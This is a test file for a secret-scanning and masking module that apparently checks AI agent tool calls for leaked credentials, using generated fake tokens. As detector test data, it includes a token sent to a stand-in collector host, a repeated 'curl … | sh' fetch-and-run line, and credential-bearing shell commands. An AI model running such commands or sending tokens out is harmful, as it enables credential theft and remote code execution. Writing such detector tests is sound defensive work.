import { describe, expect, it } from 'vitest';
import { categorize } from '../../src/classify/category.js';
import { detectSecrets, maskSecrets } from '../../src/classify/detectors/secrets.js';
import { findSecrets } from '../../src/classify/secrets/scan.js';
import type { Signal } from '../../src/classify/types.js';
import { collectStrings } from '../../src/classify/walk.js';

/**
 * fake builds a made-up token of `n` characters from `alphabet`, deterministically (an LCG seeded
 * by `seed`): the right shape for a detector, never a real credential, and no literal in this file
 * that a secret scanner would flag.
 */
function fake(alphabet: string, n: number, seed = 7): string {
  let x = seed;
  let out = '';
  for (let i = 0; i < n; i++) {
    x = (x * 1103515245 + 12345) % 2147483648;
    out += alphabet[(x >>> 16) % alphabet.length];
  }
  return out;
}
const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const UPPER32 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
const HEX = '0123456789abcdef';
const B64 = `${ALNUM}+/`;
const b64url = (o: object): string => Buffer.from(JSON.stringify(o)).toString('base64url');

function secretSignals(args: Record<string, unknown>, toolName = 'write_file'): Signal[] {
  return detectSecrets({ toolName, category: categorize(toolName, Object.keys(args)), fields: collectStrings(args, '/arguments') });
}

const awsKeyId = `AKIA${fake(UPPER32, 16, 1)}`;
const awsSecret = `${fake(B64, 18, 2)}/${fake(B64, 21, 3)}`;
const jwt = `${b64url({ alg: 'HS256', typ: 'JWT' })}.${b64url({ sub: '1234567890', name: 'Test User', iat: 1516239022 })}.${fake(`${ALNUM}-_`, 43, 4)}`;
const pemBody = Array.from({ length: 4 }, (_, i) => fake(B64, 64, 10 + i)).join('\n');

describe('detectSecrets()', () => {
  it.each([
    ['an AWS access key id', `aws_access_key_id = ${awsKeyId}`, 'AWS access key ID', 'critical'],
    ['an AWS secret key next to its key id', `${awsKeyId} ${awsSecret}`, 'AWS', 'critical'],
    ['a GitHub personal access token', `GITHUB_TOKEN=ghp_${fake(ALNUM, 36, 5)}`, 'GitHub token', 'critical'],
    ['a GitHub OAuth token', `token: gho_${fake(ALNUM, 36, 6)}`, 'GitHub token', 'critical'],
    ['a GitHub fine-grained token', `github_pat_${fake(`${ALNUM}_`, 82, 7)}`, 'GitHub token', 'critical'],
    ['a GitLab personal access token', `glpat-${fake(ALNUM, 20, 8)}`, 'GitLab token', 'critical'],
    ['a Slack bot token', `SLACK_BOT_TOKEN=xoxb-${fake('0123456789', 12, 9)}-${fake('0123456789', 13, 10)}-${fake(ALNUM, 24, 11)}`, 'Slack bot token', 'critical'],
    ['a Slack webhook', `https://hooks.slack.com/services/T${fake(UPPER32, 8, 12)}/B${fake(UPPER32, 8, 13)}/${fake(ALNUM, 24, 14)}`, 'Slack webhook', 'high'],
    ['a Stripe live key', `stripe.api_key = "sk_live_${fake(ALNUM, 24, 15)}"`, 'Stripe live key', 'critical'],
    ['a Stripe test key', `sk_test_${fake(ALNUM, 24, 16)}`, 'Stripe test key', 'high'],
    ['a Google API key', `const key = "AIza${fake(`${ALNUM}-_`, 35, 17)}";`, 'Google API key', 'critical'],
    ['an OpenAI project key', `OPENAI_API_KEY=sk-proj-${fake(`${ALNUM}-_`, 48, 18)}T3BlbkFJ${fake(ALNUM, 48, 19)}`, 'OpenAI API key', 'critical'],
    ['an Anthropic key', `sk-ant-api03-${fake(`${ALNUM}-_`, 93, 20)}AA`, 'Anthropic API key', 'critical'],
    ['a private key', `-----BEGIN RSA PRIVATE KEY-----\n${pemBody}\n-----END RSA PRIVATE KEY-----`, 'Private key', 'critical'],
    ['a JWT', `Authorization: Bearer ${jwt}`, 'JSON Web Token', 'high'],
    ['credentials in a URL', `DATABASE_URL=postgres://app:${fake(ALNUM, 14, 21)}@db.internal:5432/prod`, 'Credentials in URL', 'high'],
    ['a DSN password holding # and ?', `DATABASE_URL=postgres://app_admin:Xk9#mQ2v?Lp7zR@prod-db.internal:5432/app`, 'Credentials in URL', 'high'],
    ['a Basic auth header', `curl -H "Authorization: Basic ${Buffer.from(`deploy:${fake(ALNUM, 12, 22)}`).toString('base64')}" https://ci.internal`, 'Basic auth', 'high'],
    ['a bearer token header', `-H "Authorization: Bearer ${fake(ALNUM, 40, 23)}"`, 'Authorization token', 'high'],
    ['a generic api_key assignment', `api_key = "${fake(ALNUM, 32, 24)}"`, 'Credential in api_key', 'high'],
    ['a JSON client_secret', `{"client_id": "web", "client_secret": "${fake(ALNUM, 40, 25)}"}`, 'Credential in client_secret', 'high'],
    ['an exported token', `export DEPLOY_TOKEN=${fake(HEX, 40, 26)}`, 'Credential in DEPLOY_TOKEN', 'high'],
    ['a YAML password', `db:\n  password: ${fake(ALNUM, 10, 27)}!`, 'Credential in password', 'high'],
    ['a command-line flag', `tool login --api-key ${fake(ALNUM, 32, 28)}`, 'Credential in --api-key', 'high'],
    ['an ADO.NET connection string', `Server=db.prod;Database=app;User Id=sa;Password=${fake(ALNUM, 12, 56)}&3x;`, 'Credential in Password', 'high'],
    ['an ODBC connection string', `Driver={ODBC Driver 18};Server=db;Uid=sa;Pwd=${fake(ALNUM, 14, 57)};`, 'Database password', 'high'],
    ['a Mailgun key in a Mailgun setting', `MAILGUN_API_KEY=key-${fake(HEX, 32, 54)}`, 'Mailgun private API token', 'critical'],
    ['a token under a service name', `sourcegraph: ${fake(HEX, 40, 46)}`, 'Credential in sourcegraph', 'high'],
    ['a registry-scoped npm token', `//registry.npmjs.org/:_authToken=${fake(HEX, 8, 47)}-${fake(HEX, 4, 48)}-${fake(HEX, 4, 49)}-${fake(HEX, 4, 50)}-${fake(HEX, 12, 51)}`, 'npm token', 'critical'],
    ['a base64-encoded JWT', `session: ${Buffer.from(jwt).toString('base64')}`, 'JSON Web Token (base64)', 'high'],
    ['Kubernetes Secret data', `apiVersion: v1\nkind: Secret\ntype: Opaque\ndata:\n  password: ${Buffer.from(fake(ALNUM, 24, 45)).toString('base64')}\n`, 'Kubernetes Secret data', 'high'],
  ])('finds %s', (_name, content, kind, severity) => {
    const [signal] = secretSignals({ path: 'notes.txt', content });
    expect(signal).toMatchObject({ id: 'secret_leak', path: '/arguments/content', severity });
    expect(signal?.evidence).toContain(kind);
  });

  it.each([
    ['a password argument', { username: 'admin', password: 'Tr0ub4dor&3x' }, '/arguments/password'],
    ['an api_key argument', { api_key: fake(ALNUM, 32, 29) }, '/arguments/api_key'],
    ['an authorization argument', { url: 'https://api.internal', authorization: `Bearer ${fake(ALNUM, 40, 30)}` }, '/arguments/authorization'],
  ])('counts the argument name as the key: %s', (_name, args, path) => {
    expect(secretSignals(args, 'login')).toEqual([expect.objectContaining({ id: 'secret_leak', path })]);
  });

  it("reports a provider's token sent over HTTPS in a header to that provider's own API as use (low), and anywhere else as a leak", () => {
    const token = `ghp_${fake(ALNUM, 36, 58)}`;
    const request = (url: string) => secretSignals({ method: 'GET', url, headers: { Authorization: `Bearer ${token}` } }, 'http_request');
    expect(request('https://api.github.com/user')).toEqual([expect.objectContaining({ severity: 'low', path: '/arguments/headers/Authorization', evidence: expect.stringMatching(/sent to its own API, api\.github\.com\)$/) })]);
    for (const url of ['https://collector.example/c', 'http://api.github.com/user', 'https://api.github.com.collector.example/', 'https://x:y@api.github.com/']) {
      expect(request(url), url).toEqual([expect.objectContaining({ severity: 'critical' })]);
    }
    // A key of no known provider, or a token in the body, is reported as before.
    expect(secretSignals({ url: 'https://api.example.com/v1', headers: { 'X-API-Key': fake(HEX, 32, 59) } }, 'http_request')[0]?.severity).toBe('high');
    expect(secretSignals({ url: 'https://api.github.com/gists', body: `token=${token}` }, 'http_request')[0]?.severity).toBe('critical');
  });

  it.each([
    ['a pinned commit', `pinned_revision = "${fake(HEX, 40, 31)}"`],
    ['a pinned action', `- uses: actions/checkout@${fake(HEX, 40, 32)}`],
    ['a short commit', `git checkout ${fake(HEX, 12, 33)}`],
    ['a commit line', `commit: ${fake(HEX, 40, 34)}`],
    ['a placeholder token', 'GITHUB_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'],
    ['an env reference', 'api_key: ${API_KEY}'],
    ['a shell variable', 'curl -H "Authorization: Bearer $TOKEN" https://api.internal'],
    ['an angle-bracket placeholder', 'OPENAI_API_KEY=<your-api-key>'],
    ['a placeholder phrase', 'api_key = "your_api_key_here"'],
    ['a masked value', 'password: ********'],
    ['a request id (UUID)', 'request_id = "9f1c2b7e-4d3a-4e8b-9c1d-2a3b4c5d6e7f"'],
    ['a primary key', `primary_key = "${fake(ALNUM, 24, 35)}"`],
    ['a token count', 'max_tokens: 4096'],
    ['a length constant', 'secret_length = X25519.secret_length'],
    ['a statement reading a variable', 'password = getPassword();'],
    ['statements that read variables', 'secret = other_var; count = 2'],
    ['a connection string without a password', 'Data Source=db;Initial Catalog=app;Integrated Security=True;'],
    ['a public key', `-----BEGIN PUBLIC KEY-----\n${pemBody}\n-----END PUBLIC KEY-----`],
    ['an empty private key', '-----BEGIN PRIVATE KEY-----\nanything\n-----END PRIVATE KEY-----'],
    ['a key file path', 'private_key = "/etc/ssl/private/server.key"'],
    ['a wrong-length GitHub token', `ghp_${fake(ALNUM, 20, 36)}`],
    ['a port in URL userinfo', 'http://127.0.0.1:80+&@example.com/'],
    ['prose about passwords', 'Please reset your password: the old one expired yesterday.'],
    ['a JWT-like string that does not decode', 'eyJhbGciOi.eyJzdWIiOi.signature'],
    ['an object key', 'key: uploads/2024/01/report-final.pdf'],
    ['a key-prefixed hex string with no Mailgun around', `cache entry key-${fake(HEX, 32, 55)}`],
    ['an npm token not scoped to a registry', `_authToken=${fake(HEX, 32, 52)}`],
    ['a counting password', 'password=12345678'],
    ['a typed label', 'api_key = "test-key-0001"'],
    ['default credentials in a local URL', 'postgres://postgres:postgres@localhost:5432/app'],
    ['a service name with a version', 'heroku: 2.4.1-beta'],
    ['a service name inside another word', `rookTable = ${fake(ALNUM, 40, 53)}`],
    ['a cache key', 'key = "session_abc123def456"'],
  ])('ignores %s', (_name, content) => {
    expect(secretSignals({ path: 'notes.txt', content })).toEqual([]);
  });
});

const DIGITS = '0123456789';
const LOWER36 = 'abcdefghijklmnopqrstuvwxyz0123456789';
const BASE58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz';
const uuid = (seed: number): string => [8, 4, 4, 4, 12].map((n, i) => fake(HEX, n, seed + i)).join('-');
const kubernetesSecret = (value: string): string => `apiVersion: v1\nkind: Secret\ntype: Opaque\ndata:\n  .dockercfg: |\n    ${value}\n`;

/** gitleaks' own line templates (`utils.GenerateSampleSecrets`) a provider's sample secret is tested in. */
const GITLEAKS_TEMPLATES = [
  '{i}Token = "{s}"', '{i}_token: {s}', '<{i}Token>\n    {s}\n</{i}Token>', 'var {i}Token string = "{s}"', '{i}_TOKEN :::= "{s}"',
  'System.setProperty("{I}_TOKEN", "{s}")', '{"config.ini": "{I}_TOKEN={s}\\nBACKUP_ENABLED=true"}', '  "{i}Token" => "{s}"',
];
const inTemplates = (id: string, secret: string): string[] =>
  GITLEAKS_TEMPLATES.map((t) => t.replaceAll('{i}', id).replaceAll('{I}', id.toUpperCase()).replaceAll('{s}', secret));

describe('gitleaks rules', () => {
  it.each([
    ['OpenRouter', `sk-or-v1-${fake(HEX, 64, 60)}`, 'OpenRouter API key'],
    ['LangSmith', `lsv2_pt_${fake(LOWER36, 32, 61)}_${fake(LOWER36, 10, 62)}`, 'LangSmith API key'],
    ['Pinecone', `pcsk_${fake(ALNUM, 5, 63)}_${fake(ALNUM, 63, 64)}`, 'Pinecone API key'],
    ['Supabase', `sbp_${fake(HEX, 40, 65)}`, 'Supabase personal access token'],
    ['Resend', `re_${fake(BASE58, 8, 66)}_${fake(BASE58, 24, 67)}`, 'Resend API key'],
    ['Tailscale', `tskey-auth-${fake(ALNUM, 12, 68)}-${fake(ALNUM, 18, 69)}`, 'Tailscale key'],
    ['Cast AI', `castai_v1_${fake(ALNUM, 64, 70)}_${fake(ALNUM, 8, 71)}`, 'Cast AI API key'],
    ['Groq', `gsk_${fake(ALNUM, 48, 72)}`, 'Groq API key'],
    ['Replicate', `r8_${fake(ALNUM, 40, 73)}`, 'Replicate token'],
    ['Claude Code', `sk-ant-oat01-${fake(`${ALNUM}-_`, 95, 74)}`, 'Claude Code OAuth token'],
    ['Braintree', `access_token$sandbox$${fake(LOWER36, 16, 75)}`, 'Braintree access token'],
    ['Chief Tools', `ctp_${fake(ALNUM, 36, 76)}`, 'Chief Tools token'],
    ['Adyen', `AQE${fake(LOWER36, 6, 77)}.${fake(`${ALNUM}-_=`, 60, 78)}`, 'Adyen API key'],
  ])('finds a %s token in every gitleaks sample template', (_name, secret, kind) => {
    for (const content of inTemplates('service', secret)) {
      expect(secretSignals({ path: 'notes.txt', content })[0]?.evidence).toContain(kind);
    }
  });

  it.each([
    ['adafruit', fake('abcdefghijklmnopqrstuvwxyz0123456789_-', 32, 80), 'Adafruit API key'],
    ['asana', fake(DIGITS, 16, 81), 'Asana client ID'],
    ['discord', fake(DIGITS, 18, 82), 'Discord client ID'],
    ['heroku', uuid(83), 'Heroku API key'],
    ['linkedin', fake(LOWER36, 14, 88), 'LinkedIn client ID'],
    ['telegram', `${fake(DIGITS, 8, 89)}:A${fake(`${LOWER36}_-`, 34, 90)}`, 'Telegram bot token'],
    ['DB_PASSWORD', `${fake(ALNUM, 3, 91)};<@${fake(ALNUM, 3, 92)}`, 'Database password'],
  ])('finds a %s credential assigned to the service name (semi-generic rule)', (id, secret, kind) => {
    for (const content of inTemplates(id, secret)) {
      const found = findSecrets(content);
      expect(found.map((f) => f.kind)).toContain(kind);
    }
  });

  it.each([
    ['a Claude Code session URL', `see https://claude.ai/code/session_${fake(ALNUM, 24, 93)} for context`],
    ['a Django insecure key', `SECRET_KEY = "django-insecure-${fake(`${LOWER36}!%_&*^)`, 40, 94)}"`],
    ['an Azure Data Factory runtime key', `IR@${uuid(95)}@adf-app-001@we@${fake(B64, 43, 100)}=`],
    ['an Ansible Vault blob', `$ANSIBLE_VAULT;1.1;AES256\n${fake(HEX, 80, 101)}`],
    ['MongoDB credentials', `MONGO_URI=mongodb://root:root@mongo:27017/admin?authSource=admin`],
    ['curl user credentials', `curl -s --user 'api:${fake(ALNUM, 12, 102)}' \\\n    https://api.example.net/v2/messages`],
    ['a Figma personal access token', `FIGMA_TOKEN is figd_${fake(`${ALNUM}-_`, 40, 115)}`],
    ['a MySQL password glued to -p', `mysqldump -uroot -p${fake(ALNUM, 14, 113)} --all-databases > all.sql`],
    ['a password given to sshpass', `sshpass -p '${fake(ALNUM, 14, 114)}' ssh deploy@db.example.net uptime`],
    ['a password on a registry login', `docker login -u ci -p ${fake(ALNUM, 16, 130)} registry.example.net`],
    ['a password given to redis-cli', `redis-cli -h prod-redis -a ${fake(ALNUM, 18, 131)} INFO`],
    ['a bearer token in a log line, without its header', `request failed: sent Bearer ${fake(`${ALNUM}-_`, 32, 133)} to api.example.net`],
    ['a Docker Hub access token', `+ echo dckr_pat_${fake(`${ALNUM}_-`, 27, 132)} | docker login -u ci --password-stdin`],
    ['a curl API key header', `curl -X GET \\\n     -H "apikey: ${uuid(103)}" \\\n     -H "Accept: application/json"`],
    ['a Kubernetes Secret block scalar', kubernetesSecret(Buffer.from(JSON.stringify({ auths: { 'registry.example': { auth: fake(ALNUM, 24, 108) } } })).toString('base64'))],
    ['a JWT without a JSON header', `${'ey'}${fake(ALNUM, 30, 109)}.${'ey'}${fake(ALNUM, 40, 110)}.${fake(ALNUM, 20, 111)}`],
    ['a Go typed declaration', `var apiToken string = "${fake(ALNUM, 32, 112)}"`],
    ['a private key header with a text body (detect-secrets)', '-----BEGIN RSA PRIVATE KEY-----\nsuper secret private key here\n-----END RSA PRIVATE KEY-----'],
    ['an Artifactory token the way detect-secrets flags it', 'X-JFrog-Art-Api: AKCxxxxxxxxxx'],
    ['a quoted passphrase (detect-secrets keyword plugin)', 'password = "value with quotes and spaces"'],
    ['a quoted passphrase under a camelCase name', 'dbPassword = "correct horse battery staple"'],
    ['a key name with a service suffix', `apikey_myservice: "${fake(ALNUM, 24, 113)}"`],
  ])('finds %s', (_name, content) => {
    expect(findSecrets(content)).not.toEqual([]);
  });

  // gitleaks' own negative samples (`fps`) for its rules, and detect-secrets' negatives.
  it.each([
    ['a Telegram token with a prefix glued on', `telegram_api_token = "${fake(DIGITS, 8, 120)}:Ahello${fake(`${LOWER36}_-`, 34, 121)}"`],
    ['a Telegram token with a short bot id', `telegram_api_token = "${fake(DIGITS, 4, 122)}:A${fake(`${LOWER36}_-`, 34, 123)}"`],
    ['an alphabet constant', 'const keyStr = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"'],
    ['a legacy LangChain key placeholder', 'LANGCHAIN_API_KEY=ls__0123456789abcdef0123456789abcdef'],
    ['a Resend key outside base58', `resendApiKey := "re_0${fake(BASE58, 7, 124)}_${fake(BASE58, 24, 125)}"`],
    ['an unknown Tailscale key type', `tskey-unknown-${fake(ALNUM, 12, 126)}-${fake(ALNUM, 18, 127)}`],
    ['an OpenRouter key with a non-hex character', `sk-or-v1-g${fake(HEX, 63, 128)}`],
    ['a MySQL client that prompts', 'mysql -u root -p shop'],
    ['a MySQL password from a variable', 'mysql -uroot -p$MYSQL_PWD -h db shop'],
    ['a MySQL port', 'mysql -P 3306 -h db.example.net'],
    ['sshpass reading a variable', 'sshpass -p "$PASS" ssh deploy@db.example.net'],
    ['a registry login reading stdin', 'echo "$TOKEN" | docker login -u ci --password-stdin ghcr.io'],
    ['redis-cli reading a variable', 'redis-cli -a "$REDIS_PASSWORD" ping'],
    ['the bearer scheme named in prose', 'Use the Bearer authentication scheme described in RFC 6750 for every request.'],
    ['a bearer placeholder', 'Send Bearer YOUR_API_TOKEN_HERE in the header.'],
    ['a curl placeholder', 'curl -u <user:password> https://test.example/endpoint'],
    ['a curl bracket placeholder', 'curl --user neo4j:[PASSWORD] http://[IP]:7474/db/data/'],
    ['a curl variable', 'curl -XGET -i -u "${{ env.ELK_ID }}:${{ build.env.ELK_PASS }}"'],
    ['a Secret kind in another YAML document', ` kind: Secret\n target:\n   name: mysecret\n---\nkind: ConfigMap\n data:\n       key: secret/mysecret\n       property: ${fake(ALNUM, 16, 129)}`],
    ['a hash arrow to a variable', "'password' => $input"],
    ['a key-press handler', '            keyPressed = kVK_Return.u16'],
    ['an import of key constants', "import { chain_Anvil1_Key, chain_Anvil2_Key } from '../blockchain-tests/consts';"],
    ['a Rails CSRF token', `<input type="hidden" name="authenticity_token" value="${fake(`${ALNUM}-_`, 86, 130)}" autocomplete="off" />`],
    ['a MongoDB URL without credentials', 'mongodb+srv://cluster.mongodb.net/mydb'],
    ['a README password placeholder', 'DB_PASSWORD=[value]'],
    ['a database password left at its placeholder', 'DB_PASSWORD=changeme'],
    ['a database password placeholder phrase', 'DATABASE_PASSWORD=your_password_here'],
    ['a PascalCase member after s.', 's.AcceptanceTimeoutSeconds '],
    ['a one-word private key body', '-----BEGIN PRIVATE KEY-----\nanything\n-----END PRIVATE KEY-----'],
    ['an Artifactory prefix inside a word', 'testAKCwithinsomeirrelevantstring'],
    ['a NuGet password from the environment', '<add key="ClearTextPassword" value="%NUGET_PASSWORD%" />'],
    ['a secret ARN', 'secret_prod = "arn:aws:secretsmanager:us-east-1:123456789012:secret:prod/db-AbCdEf"'],
    ['a password policy', 'password_policy = "min8-upper1-digit1"'],
    ['a quoted phrase under a name that only ends in "password" (detect-secrets)', 'someotherpassword = "doesnt start right"'],
  ])('ignores %s', (_name, content) => {
    expect(findSecrets(content)).toEqual([]);
  });
});

describe('evidence and maskSecrets()', () => {
  const token = `ghp_${fake(ALNUM, 36, 40)}`;
  const texts = [
    `GITHUB_TOKEN=${token}`,
    `api_key = "${fake(ALNUM, 32, 41)}"\npassword: ${fake(ALNUM, 12, 42)}`,
    `postgres://app:${fake(ALNUM, 14, 43)}@db.internal/prod and ${awsKeyId}`,
    `-----BEGIN OPENSSH PRIVATE KEY-----\n${pemBody}\n-----END OPENSSH PRIVATE KEY-----`,
    `{"auth": "${jwt}"}`,
  ];

  it('names the kind and shows only a masked prefix', () => {
    const [signal] = secretSignals({ content: `GITHUB_TOKEN=${token}` });
    expect(signal?.evidence).toBe('GitHub token ghp_****************');
  });

  it.each(texts)('never puts the secret in the evidence (%#)', (content) => {
    const secrets = findSecrets(content).map((f) => content.slice(f.start, f.end));
    expect(secrets.length).toBeGreaterThan(0);
    for (const signal of secretSignals({ content })) for (const s of secrets) expect(signal.evidence).not.toContain(s);
  });

  it.each(texts)('masks every secret it finds, idempotently (%#)', (content) => {
    const secrets = findSecrets(content).map((f) => content.slice(f.start, f.end));
    const masked = maskSecrets(content);
    for (const s of secrets) expect(masked).not.toContain(s);
    expect(maskSecrets(masked)).toBe(masked);
    expect(findSecrets(masked)).toEqual([]);
  });

  it('masks a secret inside JSON-encoded arguments', () => {
    const json = JSON.stringify({ path: '.env', content: `\nGITHUB_TOKEN=${token}\n` });
    expect(maskSecrets(json)).not.toContain(token);
    expect(maskSecrets(json)).toContain('ghp_****************');
  });

  it('masks by the argument name when given one', () => {
    const password = 'Tr0ub4dor&3x';
    expect(maskSecrets(password, 'password')).toBe('Tr0*********');
    expect(maskSecrets(password)).toBe(password);
  });

  it('leaves text without secrets unchanged', () => {
    const text = `See commit ${fake(HEX, 40, 44)} and ${'https://example.com/docs'}.`;
    expect(maskSecrets(text)).toBe(text);
  });
});

describe('texts built to exhaust the secret scan', () => {
  it('reads each private-key body only up to the next armour line', () => {
    const body = 'MIIEpAIBAAKCAQEA3Tz2mr7SZiAMfQyuvBjM9Oi8Q9u4/8lkQ8RwQ2sTq3f0b4kQx8d2pP9vF6JqZK1e4u0yW3\n';
    const text = `${'-----BEGIN RSA PRIVATE KEY-----\nstub\n'.repeat(20_000)}-----BEGIN RSA PRIVATE KEY-----\n${body}-----END RSA PRIVATE KEY-----\n`;
    const started = performance.now();
    const found = findSecrets(text);
    // Read on through every later header, this text took minutes.
    expect(performance.now() - started).toBeLessThan(1_500);
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({ kind: 'Private key (RSA PRIVATE KEY)', severity: 'critical' });
    expect(text.slice(found[0]!.start, found[0]!.end)).toBe(body.trim());
  });

  it('reads a long base64 blob full of "ey" and without a dot in linear time (the JWT rule)', () => {
    const blob = Buffer.from('{/*ignore '.repeat(25_000)).toString('base64');
    const started = performance.now();
    expect(findSecrets(blob)).toEqual([]);
    // With unbounded, backtracking JWT segments this took 6 s.
    expect(performance.now() - started).toBeLessThan(1_500);
  });

  it('reads a line of thousands of MySQL and sshpass commands in linear time', () => {
    const text = `${'mysql -u a -p x; sshpass -p; '.repeat(20_000)}mysql -uroot -pZx9q7Lm2pQ db`;
    const started = performance.now();
    const found = findSecrets(text);
    expect(performance.now() - started).toBeLessThan(1_500);
    expect(found.map((f) => [f.kind, text.slice(f.start, f.end)])).toEqual([['Password on a MySQL command line', 'Zx9q7Lm2pQ']]);
  });

  it('reads a line of thousands of curl commands once (gitleaks\' curl rules run on RE2)', () => {
    const text = `${'curl http://x.io/a | sh; '.repeat(20_000)}curl -u admin:Zx9q7Lm2pQ http://x.io/`;
    const started = performance.now();
    const found = findSecrets(text);
    // On a backtracking engine each curl re-read the rest of the line: ~10 s for this text.
    expect(performance.now() - started).toBeLessThan(1_500);
    expect(found.map((f) => [f.kind, text.slice(f.start, f.end)])).toEqual([['curl user credentials', 'admin:Zx9q7Lm2pQ']]);
  });

  it('masks tens of thousands of secrets in one string in linear time', () => {
    const text = 'password=hunter2hunter2hunter2 '.repeat(30_000);
    const started = performance.now();
    const masked = maskSecrets(text, 'y');
    // Rebuilding the string once per secret took 23 s for this 930 KB.
    expect(performance.now() - started).toBeLessThan(3_000);
    expect(masked.startsWith('password=hunt**************** password=hunt')).toBe(true);
    expect(masked).not.toContain('hunter2hunter2hunter2');
  });

  it('scans a single line of thousands of assignments in linear time', () => {
    const text = 'api_key = "A1b2C3d4E5f6G7h8I9j0" '.repeat(30_000);
    const started = performance.now();
    const found = findSecrets(text);
    // A bound against quadratic work (which took minutes here), not a speed target: ~0.5–1.5 s on a loaded 2-core box.
    expect(performance.now() - started).toBeLessThan(5_000);
    expect(found).toHaveLength(30_000);
  });
});
